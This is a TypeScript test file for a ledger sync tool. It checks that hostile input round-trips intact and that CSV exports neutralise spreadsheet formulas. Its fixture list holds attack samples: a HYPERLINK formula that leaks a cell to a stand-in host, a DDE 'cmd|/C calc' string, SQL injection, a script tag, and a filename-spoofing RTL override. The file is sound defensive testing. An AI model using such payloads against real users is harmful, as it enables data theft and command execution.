import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { accountsCsv } from '../../src/main/core/ledger/balances.ts'
import { entriesCsv } from '../../src/main/core/ledger/entries.ts'
import { rejectsCsv } from '../../src/main/core/sync/quarantine.ts'
import { rowsOf } from './contents.ts'
import { folderOf, lineOf, namesOf, workspace } from './workspace.ts'

const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"Click")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1,1)',
  '\tTab first',
  "'; DROP TABLE members; --",
  '<script>alert(1)</script>',
  '\u202Egpj.exe',
  'שלום עולם',
  '👩🏽‍⚕️ 🏴󠁧󠁢󠁷󠁬󠁳󠁿',
  'e\u0301 é ﷽',
  '__proto__',
  'constructor',
  'null',
  'NULL',
  '\uFEFFmark',
  'line\nline\r\nline',
  '""',
  '%s %n $x {{x}}',
  '\\',
  '\u0001\u001f\u007f',
  'x'.repeat(200_000),
  '"'.repeat(70_000),
]

const rows = HOSTILE.map((text, i) => ({ id: `h${i}`, title: text, body: text, updated_at: '2022-01-01T00:00:00Z' }))

test('hostile text goes in as it is and comes out as it was', async () => {
  const bench = await workspace()
  const run = await bench.sync({ guides: rows })
  expect(run.streams.guides).toMatchObject({ read: rows.length, added: rows.length })
  const found = new Map(rowsOf(bench.sql, 'guides').map(({ id, title, body }) => [id, [title, body]]))
  for (const { id, title } of rows) expect(found.get(id)).toEqual([title, title])
  expect(await bench.sync({ guides: rows })).toMatchObject({ status: 'unchanged' })
  // An update keeps what was there for an undo.
  await bench.sync({ guides: rows.map(row => ({ ...row, title: 'Plain' })) })
  await bench.undo()
  for (const { id, title, body } of rowsOf(bench.sql, 'guides')) expect([id, title]).toEqual([id, body])
})

test('hostile text in rejected rows is exported verbatim, in a file that says so', async () => {
  const bench = await workspace()
  const lines = rows.map(({ body }, i) => lineOf('guides', { id: `bad ${i}`, title: body }))
  const nul = 'nul,\0here,x,2022-01-01T00:00:00Z'
  await bench.sync(await folderOf({ 'guides.csv': [namesOf('guides').join(','), ...lines, nul].join('\n') }))
  const { name, text } = rejectsCsv(bench.sql, {})
  expect(name).toBe('rejected-rows-run-1-verbatim.csv')
  const { data } = Papa.parse<string[]>(text, { skipEmptyLines: true })
  expect(data[0]).toEqual(['stream', 'line', 'id', 'code', 'message', 'raw'])
  expect(data.slice(1).map(cells => cells[5])).toEqual([...lines, nul])
  expect(bench.rejects().map(({ raw }) => raw)).toEqual([...lines, nul])
  // Corrected, the raw text syncs.
  const corrected = data.slice(1, -1).map(cells => (cells[5] ?? '').replace(/^bad /, 'good-'))
  const again = await bench.sync(
    await folderOf({ 'guides.csv': [namesOf('guides').join(','), ...corrected].join('\n') }),
  )
  expect(again.streams.guides).toMatchObject({ added: lines.length, rejected: 0 })
})

test('every other export escapes cells that a spreadsheet would run, and never numbers', async () => {
  const bench = await workspace()
  await bench.sync({
    members: HOSTILE.map((display_name, i) => ({ id: `m${i}`, display_name })),
    ledger: HOSTILE.map((note, i) => ({ id: `g${i}`, to_account: `member:m${i}`, note })),
  })
  const formula = /^[=+\-@\t\r]/
  for (const { text } of [
    await entriesCsv(bench.sql, 'names', { account: 'issuance' }),
    await accountsCsv(bench.sql, 'names'),
  ]) {
    const { data } = Papa.parse<string[]>(text, { skipEmptyLines: true })
    expect(data).toHaveLength(HOSTILE.length + (data[0]?.includes('label') ? 2 : 1))
    const cells = data.flat()
    for (const cell of cells) if (!/^-?\d+$/.test(cell)) expect(cell.slice(0, 40)).not.toMatch(formula)
    for (const hostile of HOSTILE) {
      expect(cells.includes(formula.test(hostile) ? `'${hostile}` : hostile)).toBe(true)
    }
    expect(cells.some(cell => /^-\d+$/.test(cell))).toBe(true)
  }
})

test('a file whose name is hostile is only unknown', async () => {
  const bench = await workspace()
  const folder = await folderOf({ 'members.csv': `${namesOf('members').join(',')}\n${lineOf('members', 'm1')}\n` })
  await writeFile(join(folder, '=cmd|calc!A0.csv'), 'x')
  await writeFile(join(folder, `${'long'.repeat(50)}.csv`), 'x')
  const run = await bench.sync(folder)
  expect(run).toMatchObject({ status: 'applied' })
  expect(run.warnings.map(({ stream }) => stream.length)).toEqual([16, 200])
})
